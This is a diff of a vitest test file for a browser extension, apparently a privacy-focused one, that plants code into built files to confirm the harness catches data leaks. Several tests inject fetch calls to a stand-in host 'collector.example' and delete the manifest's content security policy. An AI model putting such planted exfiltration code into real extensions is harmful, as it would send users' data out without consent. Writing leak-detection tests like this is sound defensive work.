@@ -1,3 +1,5 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import { onboard, readOnClick, stored } from './harness/beckon.ts';
 import { launchChromium } from './harness/chromium.ts';
@@ -7,16 +9,20 @@ import { type Plant, plant } from './harness/plant.ts';
 import { ADDRESS, sampleSite } from './harness/sample-site.ts';
 import { prepareSpy, spied, startSpy } from './harness/spy.ts';
 
+/** The script that a page of the build starts with. */
+const scriptOf = (build: string, page: string): string =>
+  /src="\/([^"]+\.js)"/.exec(readFileSync(join(build, page), 'utf8'))?.[1] ?? page;
+
 /** Builds that break a promise must be noticed by the very checks that guard it. */
 describe.each([
   ['chromium', launchChromium, '.output/chrome-mv3'],
   ['firefox', launchFirefox, '.output/firefox-mv3'],
-] as const)('a planted build in %s', (_, launch, build) => {
+] as const)('a planted build in %s', (name, launch, build) => {
   let driver: Driver | null = null;
   afterEach(() => driver?.close());
 
-  const noticed = async (...plants: readonly Plant[]): Promise<readonly string[]> => {
-    driver = await launch({ build: plants.reduce(plant, build), site: sampleSite });
+  const noticed = async (planted: Plant, mayLeak = false): Promise<readonly string[]> => {
+    driver = await launch({ build: plant(build, planted), site: sampleSite, mayLeak });
     await onboard(driver);
     const observer = await driver.openExtension('dashboard.html#/data');
     const page = await driver.open(ADDRESS.profile, prepareSpy);
@@ -78,13 +84,31 @@ describe.each([
   });
 
   it('that fetches once its policy is taken away is noticed', async () => {
-    await noticed({
-      file: 'background.js',
-      code: "fetch('https://collector.example/?profile')",
-      manifest: (m) => {
-        delete m.content_security_policy;
-      },
-    });
+    const manifest: Plant['manifest'] = (m) => {
+      delete m.content_security_policy;
+    };
+    await noticed({ file: 'background.js', code: "fetch('https://collector.example/?profile')", manifest }, true);
     await pollUntil('the request', async () => driver?.leaks.some((l) => l.includes('collector.example')));
   });
+
+  // Where no test looks at requests itself, the end of the browser does. Files of the worker and of the hidden page, too.
+  it.each(['derive-worker.js', ...(name === 'chromium' ? ['offscreen.html'] : [])])(
+    'that fetches in %s fails any test at its end',
+    async (file) => {
+      const script = file.endsWith('.html') ? scriptOf(build, file) : file;
+      const plantedBuild = plant(build, {
+        file: script,
+        code: "fetch('https://collector.example/?worker').catch(()=>undefined)",
+        manifest: (m) => {
+          delete m.content_security_policy;
+        },
+      });
+      const started = await launch({ build: plantedBuild, site: sampleSite });
+      await onboard(started);
+      const data = await started.openExtension('dashboard.html#/data');
+      await readOnClick(started, data, await started.open(ADDRESS.profile));
+      await pollUntil('the request', async () => started.leaks.some((l) => l.includes('collector.example')));
+      await expect(started.close()).rejects.toThrow('collector.example');
+    },
+  );
 });
